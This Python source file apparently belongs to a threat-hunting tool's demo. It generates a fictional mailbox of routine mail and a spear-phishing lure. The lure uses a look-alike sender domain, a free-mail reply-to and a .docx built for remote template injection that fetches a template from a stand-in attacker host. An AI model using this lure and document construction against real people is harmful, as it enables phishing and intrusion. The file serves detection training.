"""The demo case's mailbox: a week of ordinary mail for j.smith, then the spear-phishing
message that starts the intrusion (stage 1 of :data:`tidehunt.demo.generate.STAGES`).

The lure imitates a partner publication: a display name of the trusted Maritime Review,
a look-alike sender domain, replies to a free-mail address, and a research-paper .docx
whose settings fetch a remote template from the actor's server (template injection: the
document carries no macro for a gateway to find). Everything is fictional and harmless:
the template URL is a documentation name and the document holds a paragraph of text.
"""

from __future__ import annotations

import io
import zipfile
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.utils import format_datetime, make_msgid
from pathlib import Path
from typing import Final

from tidehunt.demo.generate import C2_HOST, LURE_NAME, STAGES

MAILBOX: Final = "j.smith@corp.example"
PARTNER: Final = "maritime-review.example"
LOOKALIKE: Final = "maritime-reveiw.example"
TEMPLATE_URL: Final = f"http://{C2_HOST}/templates/Normal.dotm"
#: The lure arrives a few minutes before Outlook writes its attachment to disk.
LURE_TIME: Final = STAGES[0].time - timedelta(minutes=3, seconds=12)
LURE_SUBJECT: Final = "Review request: Maritime policy research paper (draft for comment)"
ORG_PROFILE: Final = f"""# tidehunt organisation profile of the demo victim (see docs/mail.md)
own_domains: [corp.example]
partner_domains: [{PARTNER}]
trusted:
  - name: Maritime Review
    aliases: [Maritime Review Editorial]
    domains: [{PARTNER}]
  - name: Dr Helen Marsh
    addresses: [h.marsh@{PARTNER}]
"""

_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PR = "http://schemas.openxmlformats.org/package/2006/relationships"


def lure_docx() -> bytes:
    """The research-paper lure: a .docx whose settings name a remote template."""
    rel_doc = f"{_R}/officeDocument"
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
            '<Override PartName="/word/settings.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.wordprocessingml.settings+xml"/>'
            '<Override PartName="/docProps/core.xml" ContentType="application/vnd.'
            'openxmlformats-package.core-properties+xml"/></Types>'),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PR}">'
            f'<Relationship Id="rId1" Type="{rel_doc}" Target="word/document.xml"/>'
            '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
            'relationships/metadata/core-properties" Target="docProps/core.xml"/>'
            '</Relationships>'),
        "word/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{_W}"><w:body>'
            '<w:p><w:r><w:t>Maritime policy in the South Pacific: draft for peer review. '
            'Please enable editing to see the full paper.</w:t></w:r></w:p>'
            '</w:body></w:document>'),
        "word/_rels/document.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PR}">'
            f'<Relationship Id="rId1" Type="{_R}/settings" Target="settings.xml"/>'
            '</Relationships>'),
        "word/settings.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><w:settings xmlns:w="{_W}" '
            f'xmlns:r="{_R}"><w:attachedTemplate r:id="rId1"/></w:settings>'),
        "word/_rels/settings.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{_PR}">'
            f'<Relationship Id="rId1" Type="{_R}/attachedTemplate" Target="{TEMPLATE_URL}" '
            'TargetMode="External"/></Relationships>'),
        "docProps/core.xml": (
            '<?xml version="1.0" encoding="UTF-8"?><cp:coreProperties xmlns:cp="http://'
            'schemas.openxmlformats.org/package/2006/metadata/core-properties" '
            'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>Maritime Policy Research '
            '2026: South Pacific shipping lanes</dc:title><dc:creator>Dr Helen Marsh'
            '</dc:creator></cp:coreProperties>'),
    }
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in files.items():
            info = zipfile.ZipInfo(name, date_time=(2026, 10, 5, 9, 12, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            zf.writestr(info, text)
    return buf.getvalue()


def _message(ts: datetime, from_: str, subject: str, body: str, *, to: str = MAILBOX,
             reply_to: str | None = None, auth: str, relay: str, ip: str,
             attachment: tuple[str, bytes, str] | None = None) -> bytes:
    m = EmailMessage()
    m["Received"] = (f"from {relay} ({relay} [{ip}]) by mx1.corp.example with ESMTPS; "
                     f"{format_datetime(ts + timedelta(seconds=4))}")
    m["Authentication-Results"] = f"mx1.corp.example; {auth}"
    m["From"] = from_
    m["To"] = to
    if reply_to:
        m["Reply-To"] = reply_to
    m["Subject"] = subject
    m["Date"] = format_datetime(ts)
    m["Message-ID"] = make_msgid(domain=from_.rsplit("@", 1)[-1].rstrip(">"),
                                 idstring=ts.strftime("%Y%m%d%H%M%S"))
    m.set_content(body)
    if attachment:
        name, data, ctype = attachment
        main, sub = ctype.split("/", 1)
        m.add_attachment(data, maintype=main, subtype=sub, filename=name)
    return bytes(m)


def write_demo_mail(out_dir: Path) -> list[Path]:
    """Write the mailbox as .eml files (and ``org.yaml`` beside it); returns the mails."""
    out_dir.mkdir(parents=True, exist_ok=True)
    ok = "spf=pass smtp.mailfrom={d}; dkim=pass header.d={d}; dmarc=pass header.from={d}"
    day = datetime(2026, 9, 28, 23, 5, tzinfo=UTC)
    mails: list[tuple[str, bytes]] = []
    for i in range(8):  # a week of ordinary mail: the partner's newsletter, colleagues
        t = day + timedelta(days=i, minutes=17 * i)
        mails.append((f"{t:%Y%m%d-%H%M}-newsletter.eml", _message(
            t, f"Maritime Review <news@{PARTNER}>", f"Maritime Review weekly #{41 + i}",
            f"This week: port state control, fleet renewal.\nRead online: https://www.{PARTNER}"
            f"/weekly/{41 + i}\n", auth=ok.format(d=PARTNER), relay=f"mail.{PARTNER}",
            ip="198.51.100.25")))
        mails.append((f"{t:%Y%m%d-%H%M}-colleague.eml", _message(
            t + timedelta(hours=3), "Rachel Lee <r.lee@corp.example>",
            f"Team meeting notes {t:%d %b}", "Notes are on the wiki: "
            "https://wiki.corp.example/team/notes\n", auth=ok.format(d="corp.example"),
            relay="exch01.corp.example", ip="10.10.20.30")))
    mails.append(("20261006-0043-lure.eml", _message(
        LURE_TIME, f'"Maritime Review Editorial" <editor@{LOOKALIKE}>', LURE_SUBJECT,
        "Dear Mr Smith,\n\nAs one of our regular contributors we would value your comments "
        "on the attached draft research paper on South Pacific shipping lanes before it "
        "goes to the editorial board on Friday.\n\nKind regards,\nDr Helen Marsh\n"
        "Editorial Desk, Maritime Review\n",
        reply_to="maritime.review.editorial@mail.example",
        auth=f"spf=pass smtp.mailfrom={LOOKALIKE}; dkim=none; dmarc=none "
             f"header.from={LOOKALIKE}",
        relay=f"smtp.{LOOKALIKE}", ip="203.0.113.45",
        attachment=(LURE_NAME, lure_docx(), "application/vnd.openxmlformats-"
                    "officedocument.wordprocessingml.document"))))
    written = []
    for name, data in mails:
        p = out_dir / name
        p.write_bytes(data)
        written.append(p)
    return written


def write_org_profile(path: Path) -> Path:
    """The demo victim's organisation profile (own domain, partner, trusted senders, and
    the business calendar and zone policy of the network analytics)."""
    from tidehunt.demo.network import NETWORK_PROFILE

    path.write_text(ORG_PROFILE + NETWORK_PROFILE, encoding="utf-8")
    return path
